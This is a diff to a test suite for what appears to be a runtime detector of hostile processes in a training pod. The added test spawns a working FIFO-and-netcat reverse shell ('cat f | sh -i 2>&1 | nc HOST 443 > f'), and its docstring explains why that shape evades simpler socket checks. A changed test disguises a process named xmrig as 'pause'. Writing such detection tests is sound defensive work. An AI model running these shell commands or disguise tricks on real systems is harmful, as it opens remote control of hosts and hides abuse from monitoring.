@@ -447,6 +447,32 @@ pty.spawn("/bin/sh")
         world.pod.signal(pid, signal.SIGKILL)
 
 
+def test_a_mkfifo_and_nc_reverse_shell_to_the_allowed_object_store(world: World, judge: Judge) -> None:
+    """Found by this red team: `cat f | sh -i 2>&1 | nc HOST 443 > f` leaves no process with a socket on its
+    standard streams (sh reads a pipe from cat, nc holds the socket on another descriptor), and nc without
+    -e is no tunnel tool. What gives it away is the loop: the shell's output is the input of a process on
+    the network whose output comes back, through the FIFO and cat, as the shell's input. The twin: a shell
+    whose output a networked nc uploads, its input its own."""
+    need("nc", "sh")
+    fifo = world.work / "f"
+    world.pod.spawn("sh", "-c", f"mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | nc {OBJECT_STORE} 443 > {fifo}")
+    world.pod.spawn("sh", "-c", f"while :; do echo log; sleep 0.2; done | nc {OBJECT_STORE} 443")
+    shell = by_argv(judge, ["/bin/sh", "-i"])
+    v = judge.until("the shell in the loop", lambda: raised(training(judge), "process.reverse-shell", shell))
+    relay = judge.process(int(str(v.evidence["relay"])))
+    assert relay is not None and relay.argv == ["nc", OBJECT_STORE, "443"] and relay.stdout is not None
+    assert relay.stdout.target == str(fifo) and v.evidence["remote"] == f"{OBJECT_STORE}:443"
+    twins = [
+        p.pid
+        for p in judge.samples[-1].processes
+        if (p.argv[:2] == ["sh", "-c"] and "echo log" in p.argv[2]) or (p.name == "nc" and p.pid != relay.pid)
+    ]
+    assert len(twins) >= 3  # the twin's sh, its loop's subshell, its nc
+    assert_clean(judge, training(judge), *twins)
+    for pid in (shell, relay.pid, *twins):
+        world.pod.signal(pid, signal.SIGKILL)
+
+
 # --- tools by their argv and executable ---------------------------------------------------------------------------
 
 SSH_OPTS = ["-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]
@@ -522,8 +548,12 @@ def test_a_miner_renamed_pause_is_known_by_its_executable(world: World, judge: J
     code = "import ctypes, time; ctypes.CDLL(None).prctl(15, b'pause', 0, 0, 0); time.sleep(600)"
     miner = world.pod.spawn("python3", "-c", code, executable=str(world.work / "bin" / "xmrig"))
     twin = world.pod.spawn("python3", "-c", code, executable=str(world.work / "bin" / "trainer"))
-    v = judge.until("the renamed miner", lambda: raised(training(judge), "process.denied", miner))
-    assert v.evidence["process"] == "pause" and str(v.evidence["exe"]).endswith("/xmrig")
+    # (its first sample may show comm `xmrig`, before its prctl ran: wait for the latest evidence to say pause)
+    v = judge.until(
+        "the renamed miner",
+        lambda: (w := training(judge).standing("process.denied", miner)) and w.evidence["process"] == "pause" and w,
+    )
+    assert str(v.evidence["exe"]).endswith("/xmrig") and v.evidence["argv"][0] == "python3"  # type: ignore[index]
     assert_clean(judge, training(judge), twin)
     for pid in (miner, twin):
         world.pod.signal(pid, signal.SIGKILL)
